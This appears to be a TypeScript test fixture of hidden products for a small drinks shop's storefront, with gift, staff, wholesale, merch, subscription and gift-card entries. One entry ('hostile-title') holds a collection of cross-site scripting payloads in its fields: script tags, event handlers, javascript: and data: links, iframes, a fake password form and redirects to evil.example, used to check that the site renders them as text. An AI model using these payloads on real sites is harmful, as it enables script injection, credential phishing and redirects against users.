import { onlyVariant, type CatalogueProduct } from './catalogue-product.ts';

/** Products whose tags exclude them from lists. */
export const unlisted: CatalogueProduct[] = [
  {
    id: 4001,
    handle: 'founders-flock-box',
    title: 'Founders’ Flock Box',
    productType: 'Drink',
    tags: ['gift', 'hidden'],
    collections: ['drinks'],
    pictures: [
      {
        file: 'pack-classic-lime',
        altText: 'A carton of Classic Lime with a rubber duck beside it',
      },
    ],
    option: 'Title',
    variants: onlyVariant('RD-FOUNDERS', 4900, 60),
    createdAt: '2025-07-01T09:00:00Z',
    descriptionHtml:
      '<p>A thank-you for the people who bought the first hundred cases. You have the link because you are one of them.</p>',
  },
  {
    id: 4002,
    handle: 'staff-tasting-kit',
    title: 'Staff Tasting Kit',
    productType: 'Merch',
    tags: ['internal'],
    collections: ['merch'],
    pictures: [{ file: 'merch-tote', altText: 'A white canvas tote bag with the duck on a wave' }],
    option: 'Title',
    variants: onlyVariant('RD-STAFF', 100, 40),
    createdAt: '2025-07-01T09:10:00Z',
    descriptionHtml: '<p>Twelve unmarked cans and a score sheet. Be kind, be exact, sign it.</p>',
  },
  {
    id: 4003,
    handle: 'distributor-display-stand',
    title: 'Distributor Display Stand',
    productType: 'Wholesale',
    tags: ['distributor', 'wholesale'],
    collections: ['wholesale'],
    pictures: [{ file: 'merch-duck', altText: 'A yellow rubber duck with an orange bill' }],
    option: 'Title',
    variants: onlyVariant('RD-STAND', 24900, 12),
    createdAt: '2025-07-01T09:20:00Z',
    descriptionHtml:
      '<p>A cardboard pond, five feet tall, for stores that order by the pallet. Folds flat.</p>',
  },
  {
    // An attacker with an editor's account could write this; the site must show it as text.
    id: 4004,
    handle: 'hostile-title',
    title: '</script><img src=x onerror="window.pwned=1">',
    productType: 'Test',
    tags: ['hidden', '"><script>window.pwned=1</script>'],
    collections: [],
    pictures: [{ file: 'merch-duck', altText: '"><img src=x onerror="window.pwned=1">' }],
    option: 'Title',
    variants: onlyVariant('RD-HOSTILE', 666, 5),
    seo: {
      title: '</title><script>window.pwned=1</script>',
      description: '"><script>window.pwned=1</script>',
    },
    createdAt: '2025-07-01T09:30:00Z',
    descriptionHtml: `<p style="position:fixed;inset:0;background:red" onclick="window.pwned=1">This paragraph must stay, its style and its click must not.</p>
<script>window.pwned=1</script>
<img src="x" onerror="window.pwned=1">
<a href="javascript:window.pwned=1">a javascript link</a> <a href="java&#x0A;script:window.pwned=1">a folded one</a> <a href="data:text/html,&lt;script&gt;window.pwned=1&lt;/script&gt;">a data link</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<style>body { display: none !important }</style>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<svg onload="window.pwned=1"><use href="#x"></use></svg><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<p id="location" name="cookie">Still <strong>bold</strong> at the end.</p>`,
  },
  {
    id: 4005,
    handle: 'flock-crew-tee',
    title: 'Flock Crew Tee',
    productType: 'Merch',
    tags: ['clothing', 'hidden'],
    collections: ['flock-lab'],
    pictures: [
      { file: 'merch-tee', altText: 'A white T-shirt with the duck on its chest' },
      { file: 'merch-hat', altText: 'A lime green bucket hat with a round duck badge' },
      { file: 'life-party', altText: 'A rubber duck in a party hat with two cans and confetti' },
    ],
    option: ['Size', 'Color'],
    variants: [
      { title: 'S / Cloud', sku: 'RD-CREW-S-W', price: 3200, stock: 12 },
      { title: 'S / Lime', sku: 'RD-CREW-S-L', price: 3200, stock: 0, picture: 1 },
      { title: 'M / Cloud', sku: 'RD-CREW-M-W', price: 3200, stock: 20 },
      { title: 'M / Lime', sku: 'RD-CREW-M-L', price: 3200, stock: 7, picture: 1 },
      { title: 'M / Coral', sku: 'RD-CREW-M-C', price: 2800, compareAtPrice: 3200, stock: 4 },
      { title: 'L / Coral', sku: 'RD-CREW-L-C', price: 2800, compareAtPrice: 3200, stock: 9 },
      { title: 'XL / Cloud', sku: 'RD-CREW-X-W', price: 3600, stock: 2 },
    ],
    createdAt: '2025-09-01T09:00:00Z',
    descriptionHtml:
      '<p>What the people who run the pond wear. <strong>Not every color in every size</strong>: we cut from what is left.</p>',
  },
  {
    id: 4006,
    handle: 'pond-club',
    title: 'Pond Club Box',
    productType: 'Drink',
    tags: ['hidden', 'subscription'],
    collections: ['flock-lab'],
    pictures: [{ file: 'pack-variety', altText: 'Four cans of Rubber Ducky, one of each flavor' }],
    option: 'Pack',
    variants: [
      { title: '8-Pack', sku: 'RD-CLUB-08', price: 2600, stock: 90 },
      { title: '24-Pack', sku: 'RD-CLUB-24', price: 6500, stock: 40 },
    ],
    subscription: true,
    createdAt: '2025-09-01T09:10:00Z',
    descriptionHtml:
      '<p>All four flavors, again and again, and cheaper for it. <strong>Skip a box or stop whenever you like.</strong></p>',
  },
  {
    id: 4007,
    handle: 'pond-gift-card',
    title: 'Pond Gift Card',
    productType: 'Gift Card',
    tags: ['gift', 'hidden'],
    collections: ['flock-lab'],
    pictures: [{ file: 'merch-duck', altText: 'A yellow rubber duck with an orange bill' }],
    option: 'Denominations',
    variants: [
      { title: '$25.00', sku: 'RD-GIFT-25', price: 2500, stock: 1000 },
      { title: '$50.00', sku: 'RD-GIFT-50', price: 5000, stock: 1000 },
    ],
    isGiftCard: true,
    createdAt: '2025-09-01T09:20:00Z',
    descriptionHtml: '<p>For the friend who likes to choose. Arrives by email, never expires.</p>',
  },
];
